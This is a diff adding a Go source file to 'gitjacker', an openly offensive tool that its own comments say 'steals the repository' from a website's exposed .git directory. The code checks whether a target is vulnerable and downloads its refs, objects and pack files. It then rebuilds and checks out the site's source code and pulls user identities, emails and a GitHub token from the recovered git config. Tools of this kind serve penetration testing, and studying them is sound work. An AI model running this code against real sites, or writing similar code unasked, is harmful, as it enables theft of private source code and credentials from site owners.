@@ -0,0 +1,811 @@
+package gitjacker
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+
+	"github.com/liamg/gitjacker/internal/pkg/exposed"
+	"github.com/sirupsen/logrus"
+)
+
+var paths = []string{
+	"refs/heads/master",
+	"objects/info/packs",
+	"description",
+	"COMMIT_EDITMSG",
+	"index",
+	"packed-refs",
+	"refs/stash",
+	"logs/HEAD",
+	"logs/refs/heads/master",
+	"logs/refs/remotes/origin/HEAD",
+	"info/refs",
+	"info/exclude",
+}
+
+var ErrNotVulnerable = fmt.Errorf("no .git directory is available at this URL")
+
+// Retriever recovers a git repository into an output directory. A Retriever is used for a single run.
+type Retriever struct {
+	fetcher    Fetcher
+	cache      *ObjectCache
+	outputDir  string
+	downloaded map[string]bool
+	previous   *State
+	validators map[string]Meta
+	summary    Summary
+	handlers   []EventHandler
+	channels   []chan<- Event
+	analysers  []Analyser
+	phase      string
+}
+
+type Status uint
+
+const (
+	StatusUnknown Status = iota
+	StatusFailure
+	StatusPartialSuccess
+	StatusSuccess
+)
+
+func (s Status) String() string {
+	switch s {
+	case StatusSuccess:
+		return "success"
+	case StatusPartialSuccess:
+		return "partial success"
+	case StatusFailure:
+		return "failure"
+	}
+	return "unknown"
+}
+
+type Summary struct {
+	PackInformationAvailable bool
+	SmartProtocolAvailable   bool
+	FoundObjects             []string
+	MissingObjects           []string
+	CachedObjects            []string
+	Status                   Status
+	OutputDirectory          string
+	Config                   Config
+	Refs                     []Ref
+	ObjectSources            map[string]string
+	RefUpdates               []RefUpdate
+	NewCommits               []string
+	// Analysis is what the analysers found. Its types are internal to gitjacker, and may change between releases.
+	Analysis exposed.Result
+	// AnalysisErrors lists the analysers which failed, whose findings may be incomplete
+	AnalysisErrors []string
+}
+
+// Identities returns the people and accounts exposed by the repository configuration
+func (s *Summary) Identities() []string {
+	var identities []string
+	user := s.Config.User
+	if user.Name != "" || user.Email != "" {
+		identities = append(identities, strings.TrimSpace(fmt.Sprintf("%s <%s>", user.Name, user.Email)))
+	}
+	if user.Username != "" {
+		identities = append(identities, user.Username)
+	}
+	if s.Config.GithubToken.Username != "" {
+		identities = append(identities, "github:"+s.Config.GithubToken.Username)
+	}
+	return identities
+}
+
+// New creates a Retriever which steals the repository from the .git directory of the target website
+func New(target *url.URL, outputDir string, opts ...Option) *Retriever {
+	return NewWithFetcher(NewTargetFetcher(target, opts...), outputDir, opts...)
+}
+
+// NewTargetFetcher creates an HTTP fetcher for the .git directory of the target website
+func NewTargetFetcher(target *url.URL, opts ...Option) *HTTPFetcher {
+	return NewHTTPFetcher(gitBaseURL(target), newOptions(opts).httpClient())
+}
+
+func gitBaseURL(target *url.URL) *url.URL {
+	relative, _ := url.Parse(".git/")
+	return target.ResolveReference(relative)
+}
+
+// NewWithFetcher creates a Retriever which requests all files from the provided fetcher
+func NewWithFetcher(fetcher Fetcher, outputDir string, opts ...Option) *Retriever {
+	o := newOptions(opts)
+	return &Retriever{
+		fetcher:    fetcher,
+		cache:      o.cache,
+		handlers:   o.handlers,
+		channels:   o.channels,
+		analysers:  o.analysers,
+		outputDir:  outputDir,
+		downloaded: make(map[string]bool),
+		validators: make(map[string]Meta),
+		summary: Summary{
+			OutputDirectory: outputDir,
+			ObjectSources:   make(map[string]string),
+		},
+	}
+}
+
+func (r *Retriever) checkVulnerable(ctx context.Context) error {
+	if err := r.downloadFile(ctx, "HEAD"); err != nil {
+		return fmt.Errorf("%w: %s", ErrNotVulnerable, err)
+	}
+
+	filePath := filepath.Join(r.outputDir, ".git", "HEAD")
+	head, err := ioutil.ReadFile(filePath)
+	if err != nil {
+		return err
+	}
+
+	if !strings.HasPrefix(string(head), "ref: ") {
+		return ErrNotVulnerable
+	}
+
+	return nil
+}
+
+func (r *Retriever) parsePackMetadata(ctx context.Context, meta []byte) error {
+	lines := strings.Split(string(meta), "\n")
+	for _, line := range lines {
+		parts := strings.Split(strings.TrimSpace(line), " ")
+		if parts[0] == "P" && len(parts) == 2 {
+			packPath := filepath.Join("objects", "pack", filepath.FromSlash(filepath.Clean("/"+parts[1])))
+			if err := r.downloadFile(ctx, packPath); err != nil {
+				logrus.Debugf("Failed to retrieve pack file %s: %s", parts[1], err)
+			}
+		}
+	}
+	return nil
+}
+
+func (r *Retriever) parsePackFile(ctx context.Context, filename string, source string) error {
+
+	f, err := os.Open(filepath.Join(r.outputDir, ".git", filename))
+	if err != nil {
+		return err
+	}
+	defer func() { _ = f.Close() }()
+
+	return r.unpackObjects(ctx, f, source)
+}
+
+func (r *Retriever) unpackObjects(ctx context.Context, pack io.Reader, source string) error {
+
+	gitDir := filepath.Join(r.outputDir, ".git")
+	before := looseObjects(gitDir)
+
+	cmd := exec.CommandContext(ctx, "git", "unpack-objects")
+	cmd.Stdin = pack
+	cmd.Dir = r.outputDir
+	if err := cmd.Run(); err != nil {
+		return err
+	}
+
+	// attribute every newly unpacked object to the source of the pack
+	for hash := range looseObjects(gitDir) {
+		if !before[hash] {
+			r.recordSource(hash, source)
+		}
+	}
+	return nil
+}
+
+func (r *Retriever) recordSource(hash string, source string) {
+	if source == "" || !isHash(hash) {
+		return
+	}
+	if _, ok := r.summary.ObjectSources[hash]; !ok {
+		r.summary.ObjectSources[hash] = source
+	}
+}
+
+func looseObjects(gitDir string) map[string]bool {
+	objects := make(map[string]bool)
+	dirs, err := ioutil.ReadDir(filepath.Join(gitDir, "objects"))
+	if err != nil {
+		return objects
+	}
+	for _, dir := range dirs {
+		if !dir.IsDir() || len(dir.Name()) != 2 {
+			continue
+		}
+		files, err := ioutil.ReadDir(filepath.Join(gitDir, "objects", dir.Name()))
+		if err != nil {
+			continue
+		}
+		for _, file := range files {
+			if hash := dir.Name() + file.Name(); isHash(hash) {
+				objects[hash] = true
+			}
+		}
+	}
+	return objects
+}
+
+func (r *Retriever) fetch(ctx context.Context, path string) ([]byte, Meta, error) {
+
+	if content, meta, ok, err := r.fetchConditionally(ctx, path); ok {
+		return content, meta, err
+	}
+
+	body, meta, err := r.fetcher.Fetch(ctx, path)
+	if err != nil {
+		r.requested(ctx, path, Meta{}, 0, err)
+		return nil, Meta{}, err
+	}
+	defer func() { _ = body.Close() }()
+
+	content, err := ioutil.ReadAll(body)
+	r.requested(ctx, path, meta, len(content), err)
+	return content, meta, err
+}
+
+func (r *Retriever) downloadFile(ctx context.Context, path string) error {
+
+	path = strings.TrimSpace(path)
+
+	filePath := filepath.Join(r.outputDir, ".git", filepath.FromSlash(filepath.Clean("/"+path)))
+
+	if r.downloaded[path] {
+		return nil
+	}
+	r.downloaded[path] = true
+
+	// packs are named after the hash of their content, so one already in the output directory cannot have
+	// changed and was unpacked when it was first retrieved
+	if packFileRegex.MatchString(path) {
+		if _, err := os.Stat(filePath); err == nil {
+			logrus.Debugf("Pack %s was retrieved by a previous run.", path)
+			return nil
+		}
+	}
+
+	content, meta, err := r.fetch(ctx, path)
+	if err != nil {
+		return err
+	}
+	r.recordValidator(path, meta)
+
+	// servers may answer with error pages or truncated bodies, which must not be mistaken for objects
+	if hash, ok := looseObjectHash(path); ok {
+		if err := verifyObject(hash, content); err != nil {
+			r.emit(ctx, Event{Kind: EventObjectCorrupt, Hash: hash, Error: err.Error()})
+			return err
+		}
+	}
+
+	// a MultiFetcher returns every version of a ref which its sources disagree on, of which the first is written
+	var alternatives []string
+	var packed, diverged []Ref
+	switch {
+	case path == "HEAD" || strings.HasPrefix(path, "refs/"):
+		if lines := strings.Fields(strings.ReplaceAll(string(content), "ref: ", "ref:")); len(lines) > 1 {
+			content = []byte(strings.Replace(lines[0], "ref:", "ref: ", 1) + "\n")
+			alternatives = lines[1:]
+		}
+	case path == "packed-refs":
+		content, packed, diverged = splitPackedRefs(content)
+	}
+
+	if err := os.MkdirAll(filepath.Dir(filePath), 0755); err != nil {
+		return err
+	}
+
+	if !strings.HasSuffix(path, "/") {
+		if err := ioutil.WriteFile(filePath, content, 0640); err != nil {
+			return fmt.Errorf("failed to write %s: %w", filePath, err)
+		}
+	}
+
+	switch path {
+	case "HEAD":
+		ref := strings.TrimPrefix(string(content), "ref: ")
+		err := r.downloadFile(ctx, ref)
+		r.downloadDiverged(ctx, path, alternatives)
+		return err
+	case "packed-refs":
+		r.enterPhase(ctx, PhaseTraversal)
+		for _, ref := range packed {
+			if _, err := r.downloadObject(ctx, ref.Hash); err != nil {
+				logrus.Debugf("Failed to retrieve %s: %s", ref.Name, err)
+			}
+		}
+		for _, ref := range diverged {
+			r.downloadDiverged(ctx, ref.Name, []string{ref.Hash})
+		}
+		return nil
+	case "config":
+		return r.analyseConfig(ctx, content)
+	case "objects/pack/":
+		// parse the directory listing
+		packFiles := packLinkRegex.FindAllStringSubmatch(string(content), -1)
+		for _, packFile := range packFiles {
+			if len(packFile) <= 1 {
+				continue
+			}
+			if err := r.downloadFile(ctx, fmt.Sprintf("objects/pack/%s", packFile[1])); err != nil {
+				logrus.Debugf("Failed to retrieve pack file %s: %s", packFile[1], err)
+				continue
+			}
+		}
+		return nil
+	case "objects/info/packs":
+		return r.parsePackMetadata(ctx, content)
+	}
+
+	if strings.HasSuffix(path, ".pack") {
+		return r.parsePackFile(ctx, path, meta.Source)
+	}
+
+	if strings.HasPrefix(path, "refs/") {
+		r.enterPhase(ctx, PhaseTraversal)
+		_, err := r.downloadObject(ctx, string(content))
+		r.downloadDiverged(ctx, path, alternatives)
+		return err
+	}
+
+	hash := filepath.Base(filepath.Dir(path)) + filepath.Base(path)
+	r.recordSource(hash, meta.Source)
+
+	return r.processObject(ctx, path, hash)
+}
+
+// downloadDiverged retrieves the tips of a ref which sources disagreed on. Each is recorded as a ref under
+// refs/diverged/, so that it stays reachable alongside the version which was written.
+func (r *Retriever) downloadDiverged(ctx context.Context, name string, tips []string) {
+	for _, tip := range tips {
+		if ref := strings.TrimPrefix(tip, "ref:"); ref != tip {
+			if err := r.downloadFile(ctx, ref); err != nil {
+				logrus.Debugf("Failed to retrieve %s: %s", ref, err)
+			}
+			continue
+		}
+		if !isHash(tip) {
+			continue
+		}
+		ref := divergedRef(name, tip)
+		logrus.Debugf("Sources disagree on %s, keeping %s as %s.", name, tip, ref)
+		refPath := filepath.Join(r.outputDir, ".git", filepath.FromSlash(ref))
+		if err := os.MkdirAll(filepath.Dir(refPath), 0755); err != nil {
+			logrus.Debugf("Failed to write %s: %s", ref, err)
+			continue
+		}
+		if err := ioutil.WriteFile(refPath, []byte(tip+"\n"), 0640); err != nil {
+			logrus.Debugf("Failed to write %s: %s", ref, err)
+			continue
+		}
+		if _, err := r.downloadObject(ctx, tip); err != nil {
+			logrus.Debugf("Failed to retrieve %s: %s", ref, err)
+		}
+	}
+}
+
+func (r *Retriever) processObject(ctx context.Context, path string, hash string) error {
+
+	objectType, err := r.getObjectType(ctx, hash)
+	if err != nil {
+		return err
+	}
+
+	switch objectType {
+	case GitCommitFile:
+
+		commit, err := r.readCommit(ctx, hash)
+		if err != nil {
+			return err
+		}
+
+		logrus.Debugf("Successfully retrieved commit %s.", hash)
+		r.queueObjects(ctx, append([]string{commit.Tree}, commit.Parents...)...)
+
+		if commit.Tree != "" {
+			if _, err := r.downloadObject(ctx, commit.Tree); err != nil {
+				logrus.Debugf("Object %s is missing and likely packed.", commit.Tree)
+			}
+		}
+		for _, parent := range commit.Parents {
+			if _, err := r.downloadObject(ctx, parent); err != nil {
+				logrus.Debugf("Object %s is missing and likely packed.", parent)
+			}
+		}
+
+	case GitTreeFile:
+
+		tree, err := r.readTree(ctx, hash)
+		if err != nil {
+			return err
+		}
+
+		logrus.Debugf("Successfully retrieved tree %s.", hash)
+		r.queueObjects(ctx, tree.Objects...)
+
+		for _, subHash := range tree.Objects {
+			if _, err := r.downloadObject(ctx, subHash); err != nil {
+				logrus.Debugf("Object %s is missing and likely packed.", subHash)
+			}
+		}
+	case GitBlobFile:
+		logrus.Debugf("Successfully retrieved blob %s.", hash)
+	case GitTagFile:
+
+		target, err := r.readTag(ctx, hash)
+		if err != nil {
+			return err
+		}
+
+		logrus.Debugf("Successfully retrieved tag %s.", hash)
+		r.queueObjects(ctx, target)
+
+		if _, err := r.downloadObject(ctx, target); err != nil {
+			logrus.Debugf("Object %s is missing and likely packed.", target)
+		}
+	default:
+		return fmt.Errorf("unknown git file type for %s: %s", path, objectType)
+	}
+
+	return nil
+}
+
+func (r *Retriever) downloadObject(ctx context.Context, hash string) (string, error) {
+
+	hash = strings.TrimSpace(hash)
+	if !isHash(hash) {
+		return "", fmt.Errorf("invalid object hash %q", hash)
+	}
+
+	// stop walking history as soon as the run is cancelled, rather than reporting everything as missing
+	if err := ctx.Err(); err != nil {
+		return "", err
+	}
+
+	logrus.Debugf("Requesting hash [%s]\n", hash)
+
+	path := fmt.Sprintf("objects/%s/%s", hash[:2], hash[2:40])
+
+	// objects referenced more than once, such as blobs shared between trees, are only counted once
+	if r.downloaded[path] {
+		return path, nil
+	}
+
+	// objects may already be available locally, e.g. unpacked from a smart protocol fetch
+	if r.hasObject(ctx, hash) {
+		r.downloaded[path] = true
+		r.objectFound(ctx, hash)
+		r.cacheObject(hash)
+		return path, r.processObject(ctx, path, hash)
+	}
+
+	// objects seen in previous runs can be reused without hitting the network
+	if r.restoreCachedObject(hash) {
+		logrus.Debugf("Object %s restored from cache.", hash)
+		r.downloaded[path] = true
+		r.objectFound(ctx, hash)
+		r.summary.CachedObjects = append(r.summary.CachedObjects, hash)
+		return path, r.processObject(ctx, path, hash)
+	}
+
+	if err := r.downloadFile(ctx, path); err != nil {
+		r.summary.MissingObjects = append(r.summary.MissingObjects, hash)
+		r.emit(ctx, Event{Kind: EventObjectMissing, Hash: hash})
+		return "", err
+	}
+	r.objectFound(ctx, hash)
+	r.cacheObject(hash)
+	return path, nil
+}
+
+type GitFileType string
+
+const (
+	GitUnknownFile GitFileType = ""
+	GitCommitFile  GitFileType = "commit"
+	GitTreeFile    GitFileType = "tree"
+	GitBlobFile    GitFileType = "blob"
+	GitTagFile     GitFileType = "tag"
+)
+
+func (r *Retriever) hasObject(ctx context.Context, hash string) bool {
+	cmd := exec.CommandContext(ctx, "git", "cat-file", "-e", hash)
+	cmd.Dir = r.outputDir
+	return cmd.Run() == nil
+}
+
+func (r *Retriever) getObjectType(ctx context.Context, hash string) (GitFileType, error) {
+	cmd := exec.CommandContext(ctx, "git", "cat-file", "-t", hash)
+	cmd.Dir = r.outputDir
+	output, err := cmd.Output()
+	if err != nil {
+		return GitUnknownFile, fmt.Errorf("failed to read type of %s: %w", hash, err)
+	}
+	return GitFileType(strings.TrimSpace(string(output))), nil
+}
+
+type Commit struct {
+	Tree    string
+	Parents []string
+}
+
+func (r *Retriever) readCommit(ctx context.Context, hash string) (*Commit, error) {
+	cmd := exec.CommandContext(ctx, "git", "cat-file", "-p", hash)
+	cmd.Dir = r.outputDir
+	output, err := cmd.Output()
+	if err != nil {
+		return nil, fmt.Errorf("failed to read commit %s: %w", hash, err)
+	}
+
+	lines := strings.Split(string(output), "\n")
+	var commit Commit
+	for _, line := range lines {
+		line = strings.TrimSpace(line)
+		words := strings.Split(line, " ")
+		if len(words) <= 1 {
+			continue
+		}
+		switch words[0] {
+		case "tree":
+			commit.Tree = words[len(words)-1]
+		case "parent":
+			commit.Parents = append(commit.Parents, words[len(words)-1])
+		}
+	}
+	return &commit, nil
+}
+
+func (r *Retriever) readTag(ctx context.Context, hash string) (string, error) {
+	cmd := exec.CommandContext(ctx, "git", "cat-file", "-p", hash)
+	cmd.Dir = r.outputDir
+	output, err := cmd.Output()
+	if err != nil {
+		return "", fmt.Errorf("failed to read tag %s: %w", hash, err)
+	}
+
+	for _, line := range strings.Split(string(output), "\n") {
+		words := strings.Split(strings.TrimSpace(line), " ")
+		if len(words) == 2 && words[0] == "object" {
+			return words[1], nil
+		}
+	}
+	return "", fmt.Errorf("tag %s has no target object", hash)
+}
+
+type Tree struct {
+	Objects []string
+}
+
+func (r *Retriever) readTree(ctx context.Context, hash string) (*Tree, error) {
+
+	cmd := exec.CommandContext(ctx, "git", "cat-file", "-p", hash)
+	cmd.Dir = r.outputDir
+
+	output, err := cmd.Output()
+	if err != nil {
+		return nil, fmt.Errorf("failed to read tree %s: %w", hash, err)
+	}
+
+	lines := strings.Split(string(output), "\n")
+	var tree Tree
+	for _, line := range lines {
+		line = strings.TrimSpace(line)
+		line = strings.ReplaceAll(line, "\t", " ")
+		words := strings.Split(line, " ")
+		if len(words) < 4 {
+			continue
+		}
+		tree.Objects = append(tree.Objects, words[2])
+	}
+	return &tree, nil
+}
+
+func (r *Retriever) reset(ctx context.Context) error {
+
+	cmd := exec.CommandContext(ctx, "git", "reset")
+	cmd.Dir = r.outputDir
+	if err := cmd.Run(); err != nil {
+		return fmt.Errorf("failed to reset files: %w", err)
+	}
+
+	return nil
+}
+
+func (r *Retriever) checkout(ctx context.Context) error {
+	checkoutCmd := exec.CommandContext(ctx, "git", "checkout", "--", ".")
+	checkoutCmd.Dir = r.outputDir
+	if err := checkoutCmd.Run(); err != nil {
+		return fmt.Errorf("failed to checkout files: %w", err)
+	}
+
+	return nil
+}
+
+var ErrNoPackInfo = fmt.Errorf("pack information (.git/objects/info/packs) is missing")
+
+// e.g. href="pack-5b89658fae4313c1e25d629bfa95f809c77ff949.pack"
+var packLinkRegex = regexp.MustCompile("href=[\"']?(pack-[a-z0-9]{40}\\.pack)")
+
+// packFileRegex matches the path of a pack or its index, e.g. objects/pack/pack-5b89...f949.pack
+var packFileRegex = regexp.MustCompile(`^objects/pack/pack-[a-f0-9]{40}\.(?:pack|idx)$`)
+
+func (r *Retriever) locatePackFiles(ctx context.Context) error {
+
+	// first of all let's try a directory listing for all pack files
+	_ = r.downloadFile(ctx, "objects/pack/")
+
+	// otherwise hopefully the pak listing is available...
+	if err := r.downloadFile(ctx, "objects/info/packs"); err != nil {
+		return ErrNoPackInfo
+	}
+
+	// after handling pack files, let's check if anything is still missing...
+	var newMissing []string
+	for _, hash := range r.summary.MissingObjects {
+		path := filepath.Join(r.outputDir, ".git", "objects", hash[:2], hash[2:40])
+		if _, err := os.Stat(path); err != nil {
+			newMissing = append(newMissing, hash)
+		} else {
+			r.objectFound(ctx, hash)
+		}
+	}
+
+	r.summary.MissingObjects = newMissing
+
+	return nil
+}
+
+// Run retrieves the repository, stopping early with the context's error if it is cancelled or its deadline passes
+func (r *Retriever) Run(ctx context.Context) (*Summary, error) {
+
+	// hosts running git http-backend can serve everything in a single pack
+	r.enterPhase(ctx, PhaseSmart)
+	for _, source := range httpSources(r.fetcher) {
+		if err := r.retrieveSmart(ctx, source); err != nil {
+			logrus.Debugf("Smart HTTP retrieval unavailable from %s: %s", source.baseURL, err)
+		} else {
+			r.summary.SmartProtocolAvailable = true
+		}
+	}
+
+	r.enterPhase(ctx, PhaseRefs)
+	if err := r.checkVulnerable(ctx); err != nil && !r.summary.SmartProtocolAvailable {
+		return nil, cancelled(ctx, err)
+	}
+
+	if err := r.downloadFile(ctx, "config"); err != nil && !r.summary.SmartProtocolAvailable {
+		return nil, cancelled(ctx, err)
+	}
+
+	if err := r.downloadFile(ctx, "HEAD"); err != nil {
+		return nil, cancelled(ctx, err)
+	}
+
+	// common paths to check, not necessarily required
+	for _, path := range paths {
+		_ = r.downloadFile(ctx, path)
+	}
+
+	if err := ctx.Err(); err != nil {
+		return nil, err
+	}
+
+	// grab packed files
+	r.enterPhase(ctx, PhasePacks)
+	if err := r.locatePackFiles(ctx); err == ErrNoPackInfo {
+		r.summary.PackInformationAvailable = false
+		logrus.Debugf("Pack information file is not available - some objects may be missing.")
+	} else if err == nil {
+		r.summary.PackInformationAvailable = true
+	} else { // if there's a different error, ignore it, we can continue without unpacking
+		r.summary.PackInformationAvailable = true
+		logrus.Debugf("Error in unpack operation: %s", err)
+	}
+
+	if err := ctx.Err(); err != nil {
+		return nil, err
+	}
+
+	if len(r.summary.FoundObjects) == 0 {
+		r.summary.Status = StatusFailure
+	} else if len(r.summary.MissingObjects) > 0 {
+		r.summary.Status = StatusPartialSuccess
+	} else {
+		r.summary.Status = StatusSuccess
+	}
+
+	r.enterPhase(ctx, PhaseCheckout)
+	if err := r.reset(ctx); err != nil {
+		if r.summary.Status > StatusPartialSuccess {
+			r.summary.Status = StatusPartialSuccess
+		}
+		logrus.Debugf("Failed to reset: %s", err)
+	} else if err := r.checkout(ctx); err != nil {
+		if r.summary.Status > StatusPartialSuccess {
+			r.summary.Status = StatusPartialSuccess
+		}
+		logrus.Debugf("Failed to checkout: %s", err)
+	}
+
+	refs, err := ReadLocalRefs(filepath.Join(r.outputDir, ".git"))
+	if err != nil {
+		logrus.Debugf("Failed to read refs: %s", err)
+	}
+	r.summary.Refs = refs
+	for _, ref := range refs {
+		r.emit(ctx, Event{Kind: EventRefFound, Ref: ref.Name, Hash: ref.Hash})
+	}
+
+	r.compareRefs(ctx)
+
+	r.analyse(ctx)
+
+	if err := ctx.Err(); err != nil {
+		return nil, err
+	}
+
+	if err := r.saveState(); err != nil {
+		logrus.Debugf("Failed to save state: %s", err)
+	}
+
+	r.enterPhase(ctx, PhaseComplete)
+	return &r.summary, nil
+}
+
+// analyse runs every analyser over the retrieved repository. A failing analyser does not stop the others, and
+// its error is recorded in the summary, as its findings may be incomplete.
+func (r *Retriever) analyse(ctx context.Context) {
+	if len(r.analysers) == 0 {
+		return
+	}
+	r.enterPhase(ctx, PhaseAnalysis)
+	for _, analyser := range r.analysers {
+		if err := analyser(ctx, r.outputDir, &r.summary); err != nil {
+			logrus.Debugf("Analysis failed: %s", err)
+			r.summary.AnalysisErrors = append(r.summary.AnalysisErrors, err.Error())
+		}
+	}
+}
+
+// cancelled prefers the context's error, as failures caused by cancellation say nothing about the target
+func cancelled(ctx context.Context, err error) error {
+	if ctx.Err() != nil {
+		return ctx.Err()
+	}
+	return err
+}
+
+func (r *Retriever) analyseConfig(ctx context.Context, content []byte) error {
+	config := ParseConfig(content)
+	r.summary.Config = config
+	for _, remote := range config.Remotes {
+		if remote.URL != "" {
+			r.configField(ctx, "remote."+remote.Name+".url", remote.URL)
+		}
+	}
+	for _, branch := range config.Branches {
+		if branch.Remote != "" {
+			r.configField(ctx, "branch."+branch.Name+".remote", branch.Remote)
+		}
+	}
+	for _, field := range [][2]string{
+		{"user.name", config.User.Name},
+		{"user.username", config.User.Username},
+		{"user.email", config.User.Email},
+		{"github.user", config.GithubToken.Username},
+		{"github.token", config.GithubToken.Token},
+	} {
+		if field[1] != "" {
+			r.configField(ctx, field[0], field[1])
+		}
+	}
+	return nil
+}